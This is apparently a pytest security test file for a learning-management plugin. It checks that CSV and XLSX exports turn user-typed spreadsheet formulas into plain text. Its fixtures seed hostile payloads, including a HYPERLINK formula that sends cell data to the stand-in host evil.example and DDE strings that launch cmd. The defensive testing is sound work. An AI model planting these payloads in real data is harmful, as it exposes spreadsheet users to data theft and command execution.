"""Issue 14 item 8: no CSV export hands a spreadsheet a formula (OWASP "CSV injection").

Each export gets a user-typed value that starts with a formula character; the file must carry it
as text (prefixed with `'`), keep its delimiter, BOM and encoding, and no cell may start with
`= + - @ TAB CR`.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from flask import Flask

from lms_plugin.accounts.models import User
from lms_plugin.certification.models import Certificate
from lms_plugin.coordination.models import PeerHelper, School, TrainingCentre
from lms_plugin.csv_export import SafeCsv, safe_cell
from lms_plugin.db import db, utcnow
from lms_plugin.grading.models import Grade
from lms_plugin.tabular import XLSX_TYPE
from tests.security.world import World, seed_world

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned(app_ctx: Flask) -> World:
    """The seeded programme with formulas in every name an export writes."""
    world = seed_world()
    anna = db.session.get(User, world.ids["anna"])
    assert anna is not None
    anna.name = FORMULA
    for cert in db.session.query(Certificate):
        cert.holder_name = "+" + FORMULA[1:]
    school = db.session.get(School, world.ids["school"])
    assert school is not None
    school.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    school.municipality = "-2+3+cmd|' /C calc'!A0"
    centre = db.session.get(TrainingCentre, school.centre_id)
    assert centre is not None
    centre.name = "\t=1+1"
    helper = db.session.get(PeerHelper, world.ids["helper"])
    assert helper is not None
    helper.display_name = "\r=1+1"
    db.session.add(
        Grade(
            submission_id=world.ids["anna_submission"],
            state="released",
            outcome="pass",
            total=8,
            feedback="ok",
            released_at=utcnow(),
        )
    )
    db.session.commit()
    return world


def _cells(body: bytes, delimiter: str) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


EXPORTS = {
    # name: (visitor, path, delimiter, the poisoned value that must appear neutralised)
    "cohort": ("trainer", "/progress/cohort.csv", ",", FORMULA),
    "register": ("coordinator", "/certificates.csv", ";", "+" + FORMULA[1:]),
    "schools": ("coordinator", "/coordination/schools/export.csv", ";", "@SUM(1+1)"),
    "coverage": ("coordinator", "/coordination/coverage.csv", ";", "\t=1+1"),
    "helpers": ("coordinator", "/coordination/helpers.csv", ";", "\r=1+1"),
    "grading": ("trainer", "/grading/export.csv", ",", FORMULA),
}


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_export_neutralises_formulas(app: Flask, poisoned: World, name: str) -> None:
    visitor, path, delimiter, value = EXPORTS[name]
    response = poisoned.client(app, visitor).get(path, base_url="https://tool.test")
    assert response.status_code == 200, (path, response.status_code)
    assert response.mimetype == "text/csv"
    rows = _cells(response.data, delimiter)
    assert len(rows) >= 2, f"{path} exported no data row"
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'" + value) for cell in cells), (path, value, rows[:3])
    bad = [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert not bad, f"{path} hands a spreadsheet formulas: {bad}"


@pytest.mark.parametrize("name", sorted(set(EXPORTS) - {"schools"}))  # schools: the import's CSV
def test_xlsx_export_holds_formulas_as_text(app: Flask, poisoned: World, name: str) -> None:
    visitor, path, _delimiter, value = EXPORTS[name]
    response = poisoned.client(app, visitor).get(
        path + "?format=xlsx", base_url="https://tool.test"
    )
    assert response.status_code == 200, (path, response.status_code)
    assert response.mimetype == XLSX_TYPE
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], f"{path}: formula cells"
    # XlsxWriter escapes control characters (_x000D_); Excel shows them as the characters.
    texts = {
        str(c.value).replace("_x000D_", "\r").replace("_x0009_", "\t")
        for c in cells
        if c.data_type == "s"
    }
    assert value in texts, (path, value)


def test_safe_cell_prefixes_only_text_that_starts_a_formula() -> None:
    for start in DANGEROUS:
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Kovács Anna") == "Kovács Anna"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell(2.5) == 2.5


def test_the_delimiter_is_a_parameter_and_lines_end_in_crlf() -> None:
    writer = SafeCsv(delimiter=";")
    writer.writerow(["a;b", "=x", 1])
    assert writer.take() == '"a;b";\'=x;1\r\n'
    assert writer.take() == ""
